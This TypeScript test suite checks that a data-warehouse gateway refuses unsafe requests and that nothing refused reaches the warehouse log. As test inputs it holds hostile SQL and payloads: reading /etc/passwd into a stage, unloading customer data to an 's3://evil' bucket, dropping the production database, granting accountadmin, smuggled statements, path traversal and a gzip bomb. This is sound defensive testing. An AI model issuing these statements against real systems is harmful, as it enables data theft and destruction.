/**
 * The fail-closed matrix, a row each, through a running gateway. The witness is the warehouse's own log: what was
 * refused never arrived there.
 */
import { randomUUID } from "node:crypto";
import { gzipSync } from "node:zlib";
import pg from "pg";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it } from "vitest";
import { failingJournal } from "../harness/failing-journal.ts";
import { readDemoConfig, type Stack, startStack } from "../harness/index.ts";
import { loginBody, type RawSession, rawLogin, rawSend } from "../harness/raw-client.ts";
import { waitFor } from "../harness/wait.ts";

let stack: Stack;
let devin: RawSession;
let skewMs = 0;
const broken = failingJournal();

beforeAll(async () => {
  stack = await startStack({
    databaseUrl: inject("databaseUrl"),
    environment: { SLUICE_FIRST_WAIT_SECONDS: "2", SLUICE_POLL_WAIT_SECONDS: "2" },
    overrides: { journal: broken.journal, now: () => Date.now() + skewMs },
  });
});
beforeEach(async () => {
  devin = await rawLogin(stack.gateway.snowflakeUrl, stack.tokens.devin);
  expect(devin.login.success).toBe(true);
});
afterEach(() => {
  broken.mend();
  stack.warehouse.switches.clear();
});
afterAll(async () => stack?.stop());

const reached = (text: string): number => stack.reached().filter((entry) => entry.sqlText.includes(text)).length;
const target = () => `/queries/v1/query-request?requestId=${randomUUID()}`;

describe("unknown endpoint, method or content", () => {
  it.each([
    ["GET", "/api/v2/databases"],
    ["POST", "/api/v2/statements"],
    ["GET", "/monitoring/queries?max=10"],
    ["DELETE", "/session"],
    ["POST", "/session"],
    ["GET", "/queries/v1/query-request"],
    ["PUT", "/queries/v1/query-request"],
    ["POST", "/queries//v1/query-request"],
    ["POST", "/session/v1/login-request/../../api"],
    ["GET", "/console/login"],
  ])("refuses %s %s with a valid token", async (method, path) => {
    expect(await devin.send(method, path, method === "GET" ? undefined : "{}")).toMatchObject({
      success: false,
      code: "099003",
    });
  });

  it.each(["ISSUE", "CLONE"])("refuses a token request of type %s", async (requestType) => {
    const answer = await rawSend(
      stack.gateway.snowflakeUrl,
      "POST",
      "/session/token-request",
      JSON.stringify({ oldSessionToken: devin.token, requestType }),
      { authorization: `Snowflake Token="${devin.masterToken}"` },
    );
    expect(answer.success).toBe(false);
    expect(JSON.stringify(answer)).not.toContain("sessionToken");
  });

  it("refuses a session token in the place of a master token, and the reverse", async () => {
    const renew = await rawSend(
      stack.gateway.snowflakeUrl,
      "POST",
      "/session/token-request",
      JSON.stringify({ oldSessionToken: devin.token, requestType: "RENEW" }),
      { authorization: `Snowflake Token="${devin.token}"` },
    );
    expect(renew).toMatchObject({ success: false, code: "390104" });
    const query = await rawSend(
      stack.gateway.snowflakeUrl,
      "POST",
      target(),
      JSON.stringify({ sqlText: "select 41" }),
      { authorization: `Snowflake Token="${devin.masterToken}"` },
    );
    expect(query).toMatchObject({ success: false, code: "390104" });
    expect(reached("select 41")).toBe(0);
  });
});

describe("bodies", () => {
  it.each([
    ["bad JSON", '{"sqlText":"select 1001"'],
    ["a duplicate key", '{"sqlText":"select 1","sqlText":"select 1001"}'],
    ["text behind the value", '{"sqlText":"select 1001"} x'],
    ["a staged bind", '{"sqlText":"select 1001","bindStage":"@x/1"}'],
    ["a second statement under another key", '{"sqlText":"select 1","sql":"select 1001"}'],
    ["a known key in another spelling", '{"sqlText":"select 1","SQLTEXT":"select 1001"}'],
    ["no statement", '{"describeOnly":true}'],
  ])("refuses %s", async (_, body) => {
    expect(await devin.send("POST", target(), body)).toMatchObject({ success: false });
    expect(reached("1001")).toBe(0);
  });

  it("refuses bad gzip, a gzip bomb, and a lie about the encoding", async () => {
    const bad = Buffer.concat([Buffer.from([0x1f, 0x8b]), Buffer.from("nonsense")]);
    expect(await devin.send("POST", target(), bad)).toMatchObject({ success: false, code: "099001" });
    const bomb = gzipSync(Buffer.alloc(140 * 1_048_576, 0x20));
    expect(await devin.send("POST", target(), bomb)).toMatchObject({ success: false, code: "099002" });
    expect(await devin.send("POST", target(), "{}", { "content-encoding": "br" })).toMatchObject({
      success: false,
      code: "099001",
    });
  });

  it("takes gzip by its magic bytes, whatever the header says", async () => {
    expect(await devin.send("POST", target(), gzipSync('{"sqlText":"select 5 as n"}'))).toMatchObject({
      success: true,
    });
  });

  it("refuses invalid UTF-8", async () => {
    const body = Buffer.concat([Buffer.from('{"sqlText":"select \'10'), Buffer.from([0xff]), Buffer.from("01'\"}")]);
    expect(await devin.send("POST", target(), body)).toMatchObject({ success: false, code: "099001" });
  });

  it("refuses a request without a request id", async () => {
    expect(await devin.send("POST", "/queries/v1/query-request", '{"sqlText":"select 1001"}')).toMatchObject({
      success: false,
    });
    expect(reached("1001")).toBe(0);
  });
});

describe("SQL", () => {
  it.each([
    ["not SQL at all", "flurb the glorp"],
    ["an object that nobody knows", "select * from nowhere.at.all"],
    ["a function outside the closed table", "select my_udf(email) from customers"],
    ["text that is executed", "execute immediate 'drop database prod'"],
    ["a second statement behind the first", "select 1; drop database prod"],
    ["a scripting block", "begin let x := 1; return x; end"],
    ["a file transfer", "put file:///etc/passwd @~/x"],
    ["an unload", "copy into 's3://evil/x' from customers"],
    ["an ambiguous comment", "select 1 /* /* */ , ssn from customers */"],
    ["a NUL", "select 1\u0000, ssn from customers"],
    ["a right", "grant role accountadmin to user devin"],
    ["somebody else's result", `select * from table(result_scan('${randomUUID()}'))`],
    ["the account's history", "select query_text from snowflake.account_usage.query_history"],
  ])("refuses %s", async (_, sql) => {
    const before = stack.reached().length;
    expect(await devin.query(sql)).toMatchObject({ success: false });
    expect(stack.reached().slice(before)).toEqual([]);
  });
});

describe("several statements in one text", () => {
  it.each([undefined, 1, 3])("are refused when the request announces %s", async (count) => {
    const more = count === undefined ? {} : { body: { parameters: { MULTI_STATEMENT_COUNT: count } } };
    const answer = await devin.query("select 6001 as a; select 6002 as b", more);
    expect(answer).toMatchObject({ success: false, code: "000008" });
    expect(reached("6001")).toBe(0);
  });

  it("run when they are announced, or any number is", async () => {
    for (const count of [0, 2]) {
      const body = { parameters: { MULTI_STATEMENT_COUNT: count } };
      expect(await devin.query(`select 6003 as c${count}; select 6004 as d`, { body })).toMatchObject({
        success: true,
      });
    }
  });
});

describe("file transfers", () => {
  it.each([
    "put file:///tmp/x @~/x",
    "get @~/x file:///tmp",
    "create temporary stage SYSTEM$BIND file_format = (type = csv)",
  ])("are refused at once and wait for nobody: %s", async (sql) => {
    const before = stack.reached().length;
    const answer = await devin.query(sql);
    expect(answer.success).toBe(false);
    expect(answer.code).not.toBe("333333");
    expect(stack.reached().slice(before)).toEqual([]);
  });
});

describe("policy documents", () => {
  it("are refused when one is invalid, and the last good bundle stays", async () => {
    const files = (await readDemoConfig(stack.warehouse.url)).map((file) => ({
      ...file,
      text: file.text.replace("deny:", "denny:"),
    }));
    const answer = await stack.api<{ applied: boolean; diagnostics: readonly { line: number }[] }>(
      "bootstrap",
      "POST",
      "/v1/apply",
      { files, secrets: {} },
    );
    expect(answer.body.applied).toBe(false);
    expect(answer.body.diagnostics[0]?.line).toBeGreaterThan(0);
    expect(await devin.query("select 2 as n")).toMatchObject({ success: true });
    expect(await devin.query("drop database prod")).toMatchObject({ success: false });
  });
});

describe("the journal", () => {
  it.each(["statement.received", "statement.decided", "statement.forwarded"] as const)(
    "that can't take %s stops the statement before it is sent",
    async (type) => {
      broken.break(type);
      expect(await devin.query(`select 7001 as "${type}"`)).toMatchObject({ success: false, code: "099020" });
      expect(reached(`"${type}"`)).toBe(0);
    },
  );

  it.each(["result.schema", "result.page", "result.end"] as const)(
    "that can't take %s withholds the answer",
    async (type) => {
      broken.break(type);
      const answer = await devin.query(`select country as "${type}" from customers limit 1`);
      expect(answer).toMatchObject({ success: false, code: "099021" });
      expect(answer.data).not.toHaveProperty("rowset");
    },
  );

  it("that can't take a session's start refuses the login", async () => {
    broken.break("session.start");
    expect((await rawLogin(stack.gateway.snowflakeUrl, stack.tokens.devin)).login).toMatchObject({
      success: false,
      code: "099020",
    });
  });

  it("that can't take a vote leaves the statement unrun", async () => {
    const waiting = devin.query("delete from orders /* unrecorded vote */");
    const approvals = async () =>
      (await stack.api<{ approvals: readonly { id: string }[] }>("sam", "GET", "/v1/approvals")).body.approvals;
    const [one] = await waitFor(approvals, (found) => found.length === 1);
    broken.break("approval.granted");
    expect((await stack.api("sam", "POST", `/v1/approvals/${one?.id}/vote`, { verdict: "grant" })).status).toBe(500);
    expect((await waiting).code).toBe("333333");
    expect(reached("unrecorded vote")).toBe(0);
    broken.mend();
    await devin.send("POST", "/session?delete=true");
  });
});

describe("the warehouse's answer", () => {
  it.each([
    ["extraColumn", "099010"],
    ["nonsense", "099032"],
  ] as const)("%s is withheld", async (kind, code) => {
    stack.warehouse.switches.add({ kind, match: kind });
    const answer = await devin.query(`select email, id, '${kind}' as w from customers limit 2`);
    expect(answer).toMatchObject({ success: false, code });
    expect(JSON.stringify(answer)).not.toContain("@");
  });

  it("of another kind than what was approved stops the statement before it runs", async () => {
    stack.warehouse.switches.add({ kind: "wrongTypeId", match: "type drift" });
    const text = "delete from orders /* type drift */";
    const waiting = devin.query(text);
    const approvals = async () =>
      (await stack.api<{ approvals: readonly { id: string }[] }>("sam", "GET", "/v1/approvals")).body.approvals;
    const [one] = await waitFor(approvals, (found) => found.length === 1);
    await stack.api("sam", "POST", `/v1/approvals/${one?.id}/vote`, { verdict: "grant" });
    expect(await waiting).toMatchObject({ success: false, code: "099033" });
    expect(stack.reached().filter((entry) => entry.sqlText === text && entry.executed)).toEqual([]);
  });

  it("that is lost after a change was sent is reported as unknown, and the change is not sent again", async () => {
    const text = "update orders set status = 'lost' where id = 1";
    stack.warehouse.switches.add({ kind: "dropAfter", match: "'lost'" });
    expect(await devin.query(text)).toMatchObject({ success: false, data: { sqlState: "08007" } });
    expect(stack.reached().filter((entry) => entry.sqlText === text)).toHaveLength(1);
  });
});

describe("what a session does not own", () => {
  it.each(["result", "abort-request"])("is refused at /queries/{id}/%s", async (end) => {
    const mine = await devin.query("select email from customers limit 1");
    const other = await rawLogin(stack.gateway.snowflakeUrl, stack.tokens.copilot);
    const id = String(mine.data?.["queryId"]);
    const answer = await other.send(
      end === "result" ? "GET" : "POST",
      `/queries/${id}/${end}`,
      end === "result" ? undefined : "{}",
    );
    expect(answer.success).toBe(false);
    expect(JSON.stringify(answer)).not.toContain("tok_");
    expect(await other.send("GET", `/monitoring/queries/${id}`)).toMatchObject({ success: false });
    expect(await other.query(`select * from table(result_scan('${id}'))`)).toMatchObject({ success: false });
  });

  it("is refused at chunk addresses that were never given out", async () => {
    const answer = await fetch(`${stack.gateway.snowflakeUrl}/chunks/${"A".repeat(43)}/0`);
    expect(answer.status).toBe(403);
  });
});

describe("who calls", () => {
  it.each([
    ["a wrong token", "slu_a_wrongwrongwrongwrongwrongwrongwrongwrong", {}],
    ["no token", "", {}],
    ["a key pair", "x", { AUTHENTICATOR: "SNOWFLAKE_JWT", TOKEN: "a.b.c" }],
  ])("is refused with %s", async (_, token, more) => {
    const answer = await rawSend(
      stack.gateway.snowflakeUrl,
      "POST",
      "/session/v1/login-request",
      loginBody(token, more),
    );
    expect(answer.success).toBe(false);
    expect(answer.data?.["token"]).toBeUndefined();
  });

  it("gets the same answer for an unknown account as for a wrong token", async () => {
    const wrong = await rawSend(
      stack.gateway.snowflakeUrl,
      "POST",
      "/session/v1/login-request",
      loginBody("slu_a_wrong"),
    );
    const unknown = await rawSend(
      stack.gateway.snowflakeUrl,
      "POST",
      "/session/v1/login-request",
      loginBody("slu_a_wrong", { ACCOUNT_NAME: "http://evil.example" }),
    );
    expect({ ...unknown, data: null }).toEqual({ ...wrong, data: null });
  });

  it("loses the session within seconds when the token is revoked, and what waited is not run", async () => {
    const minted = (await stack.api<{ id: string; token: string }>("ana", "POST", "/v1/tokens", { principal: "devin" }))
      .body;
    const short = await rawLogin(stack.gateway.snowflakeUrl, minted.token);
    const waiting = short.query("delete from orders /* revoked */");
    await waitFor(
      async () => (await stack.api<{ approvals: readonly unknown[] }>("sam", "GET", "/v1/approvals")).body.approvals,
      (found) => found.length === 1,
    );
    await stack.api("ana", "DELETE", `/v1/tokens/${minted.id}`);
    await stack.gateway.tick();
    expect(await waiting).toMatchObject({ success: false });
    expect(await short.query("select 3001")).toMatchObject({ success: false });
    expect(reached("revoked")).toBe(0);
    expect(reached("3001")).toBe(0);
  });

  it("gets no more parts of a result that it was given, once the token is revoked", async () => {
    const minted = (await stack.api<{ id: string; token: string }>("ana", "POST", "/v1/tokens", { principal: "devin" }))
      .body;
    const short = await rawLogin(stack.gateway.snowflakeUrl, minted.token);
    const answer = await short.query("select id, kind from events limit 200000");
    const [part] = (answer.data?.["chunks"] ?? []) as readonly { readonly url: string }[];
    expect((await fetch(part?.url ?? "")).status).toBe(200);
    await stack.api("ana", "DELETE", `/v1/tokens/${minted.id}`);
    await stack.gateway.tick();
    expect((await fetch(part?.url ?? "")).status).toBe(403);
  });

  it("gets nothing of the API with an agent's token, and no result with a viewer's", async () => {
    expect((await stack.api("devin", "GET", "/v1/approvals")).status).toBe(403);
    expect((await stack.api(null, "GET", "/v1/approvals")).status).toBe(401);
    expect((await stack.api("vic", "POST", "/v1/tokens", { principal: "devin" })).status).toBe(403);
    expect(
      (await stack.api("sam", "POST", "/v1/apply", { files: await readDemoConfig(stack.warehouse.url) })).status,
    ).toBe(403);
  });
});

describe("PostgreSQL out of sight for longer than 10 s", () => {
  it("refuses new statements and logins until it is back", async () => {
    const name = new URL(stack.databaseUrl).pathname.slice(1);
    const elsewhere = new URL(stack.databaseUrl);
    elsewhere.pathname = "/postgres";
    const admin = new pg.Client({ connectionString: elsewhere.href });
    await admin.connect();
    try {
      await admin.query(`alter database ${name} allow_connections false`);
      await admin.query(`select pg_terminate_backend(pid) from pg_stat_activity where datname = $1`, [name]);
      skewMs += 11_000;
      expect(await devin.query("select 9001")).toMatchObject({ success: false, code: "099022" });
      expect(reached("9001")).toBe(0);
      expect((await rawLogin(stack.gateway.snowflakeUrl, stack.tokens.devin)).login.success).toBe(false);
    } finally {
      await admin.query(`alter database ${name} allow_connections true`);
      await admin.end();
    }
    await waitFor(
      async () => (await devin.query("select 9002 as n")).success,
      (success) => success,
    );
  });
});
